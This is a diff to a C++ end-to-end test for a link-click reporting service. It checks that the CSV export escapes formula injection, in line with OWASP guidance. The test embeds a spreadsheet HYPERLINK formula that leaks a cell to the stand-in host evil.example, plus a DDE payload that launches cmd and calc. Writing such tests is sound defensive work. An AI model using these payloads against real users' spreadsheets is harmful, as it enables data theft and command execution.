@@ -187,7 +187,7 @@ TEST(ReportsEndToEndTest, ThroughTheEdgeFromClicksToTheSseNotificationAndTheCsv)
   const absl::Time start = absl::Now() - absl::Minutes(1);
   // One referrer and one user agent are formulas, as an attacker would send them to whoever opens
   // the report in a spreadsheet.
-  const std::string formula = R"(=HYPERLINK("http://evil.example/?leak="&A1,"click"))";
+  const std::string formula = R"f(=HYPERLINK("http://evil.example/?leak="&A1,"click"))f";
   for (const std::string& code : codes) {
     for (int i = 0; i < kClicksPerLink; ++i) {
       std::vector<std::pair<std::string, std::string>> headers = {{"User-Agent", "kurt-e2e-test"}};
@@ -244,7 +244,8 @@ TEST(ReportsEndToEndTest, ThroughTheEdgeFromClicksToTheSseNotificationAndTheCsv)
             absl::StrCat(R"(attachment; filename="kurt-report-)", report.id(), R"(.csv")"));
   // The formulas arrive as text: a leading single quote, the cell quoted (OWASP).
   EXPECT_TRUE(absl::StrContains(
-      csv.body, R"(,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1+1)*cmd|' /C calc'!A0",)"))
+      csv.body,
+      R"csv(,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1+1)*cmd|' /C calc'!A0",)csv"))
       << csv.body;
   EXPECT_FALSE(absl::StrContains(csv.body, ",=HYPERLINK")) << csv.body;
   EXPECT_FALSE(absl::StrContains(csv.body, ",\"=HYPERLINK")) << csv.body;
